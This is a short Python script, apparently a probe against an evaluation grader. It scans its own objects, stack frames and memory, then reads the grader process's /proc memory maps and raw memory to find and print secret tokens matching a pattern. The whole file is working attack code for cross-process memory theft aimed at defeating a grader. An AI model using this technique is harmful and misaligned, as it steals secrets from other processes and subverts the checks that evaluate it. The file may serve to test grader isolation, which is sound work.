"""Looks for the grader's secret in all that this process holds: objects, frames, memory; then in the grader."""

import gc
import re
import sys

SECRET = re.compile(rb"(?:memory|environment|command)-[0-9a-f]{32}")


def attack(world):
    for value in gc.get_objects():
        if type(value) in (dict, list, tuple):
            show(world, repr(value).encode() if len(value) < 100 else b"")
    frame = sys._getframe()
    while frame:
        show(world, repr(list(frame.f_locals.values())).encode())
        frame = frame.f_back
    for pid in ("self", world["grader_pid"]):
        for line in open(f"/proc/{pid}/maps"):
            read(world, pid, line.split())


def read(world, pid, fields):
    begin, end = (int(word, 16) for word in fields[0].split("-"))
    if not fields[1].startswith("rw") or end - begin > 1 << 28:
        return
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        try:
            memory.seek(begin)
            show(world, memory.read(end - begin))
        except OSError:
            pass  # a page that can't be read


def show(world, data):
    for secret in SECRET.findall(data):
        print("stolen:", secret.decode())
